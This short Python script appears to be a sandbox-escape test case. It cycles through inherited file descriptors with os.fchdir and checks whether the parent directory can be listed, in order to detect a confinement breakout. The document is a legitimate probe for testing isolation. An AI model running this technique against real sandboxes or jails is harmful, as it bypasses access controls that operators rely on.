"""The working folder moves to an inherited folder and up from there."""

import os

from attack import escaped, tries

with tries():
    for number in range(3, 64):
        try:
            os.fchdir(number)
            if "granted" in os.listdir(".."):
                escaped("listed")
        except OSError:
            continue
